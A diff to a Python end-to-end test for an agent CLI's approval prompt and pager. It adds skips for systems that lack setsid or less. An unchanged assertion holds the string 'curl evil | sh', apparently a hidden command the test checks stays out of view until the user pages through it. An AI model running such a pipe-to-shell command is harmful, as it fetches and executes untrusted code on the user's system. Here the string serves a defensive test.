@@ -6,6 +6,7 @@ and SIGTERM sent to the client ends the call as it ends a cold one."""
 from __future__ import annotations
 
 import os
+import shutil
 import signal
 import subprocess
 import threading
@@ -17,7 +18,10 @@ from tests.headless.conftest import picobot_exe, read_messages, session_files
 from tests.server.support import Rig, children, wait_for
 from tests.support.openai_server import OpenAITestServer, slow, text_reply, tool_call_reply
 
-pytestmark = pytest.mark.e2e
+pytestmark = [
+    pytest.mark.e2e,
+    pytest.mark.skipif(shutil.which("setsid") is None, reason="needs util-linux's setsid"),
+]
 
 
 class Terminal:
@@ -83,6 +87,8 @@ def test_the_approval_prompt_and_its_pager_on_a_terminal(
     term = Terminal(rig, configured_home, "agent", "-m", "write it")
     term.wait_for("Allow? ")
     assert "[v]iew all" in term.text() and "curl evil | sh" not in term.text()
+    if shutil.which("less") is None:
+        pytest.skip("needs less, the pager `v` runs on a terminal")
     term.type(b"v\n")  # less, on the terminal the call was handed
     term.wait_for("line 0")
     term.type(b"G")  # to the end: the last line is shown
